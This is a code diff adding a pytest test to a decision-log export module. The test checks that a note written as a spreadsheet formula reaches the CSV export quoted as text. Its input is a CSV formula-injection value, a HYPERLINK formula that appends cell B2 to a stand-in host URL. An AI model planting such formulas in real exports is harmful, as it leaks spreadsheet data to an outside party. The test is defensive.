@@ -18,6 +18,7 @@ import openpyxl
 import pytest
 from sqlalchemy import text
 
+from documents import csv_safe
 from documents.board_html import board_html
 from documents.board_pdf import board_pdf
 from documents.certificate import certificate_html, certificate_pdf
@@ -286,6 +287,21 @@ async def test_the_log_export_holds_every_decision_each_checkable_from_the_file_
     await export_log(app.reader, CsvLog(as_csv))
     rows = list(csv.DictReader(io.StringIO(as_csv.getvalue())))
     assert [r["hash"] for r in rows] == [d["hash"] for d in decisions] and {r["chain_check"] for r in rows} == {"ok"}
+
+
+async def test_a_progress_note_written_as_a_formula_reaches_the_log_csv_as_text(app: App, seed_plan: Path) -> None:
+    """Issue 14: the cell goes out quoted, so a spreadsheet shows it and runs nothing; taking the quote off
+    gives the note as the JSON export and the chain have it."""
+    await seed(app, seed_plan)
+    formula = '=HYPERLINK("http://x.invalid/?"&B2,"Open the evidence")'
+    await act(app, LEAD, "3.11.1", Event.RECORD_PROGRESS, note=formula)
+    as_csv, as_json = io.StringIO(), io.StringIO()
+    assert (await export_log(app.reader, CsvLog(as_csv))).ok
+    await export_log(app.reader, JsonLog(as_json))
+    [row] = [r for r in csv.DictReader(io.StringIO(as_csv.getvalue())) if r["event"] == "record_progress"]
+    [record] = [d for d in json.loads(as_json.getvalue())["decisions"] if d["event"] == "record_progress"]
+    assert row["note"] == "'" + formula and row["chain_check"] == "ok"
+    assert csv_safe.unescape(row["note"]) == record["note"] == formula
 
 
 @pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
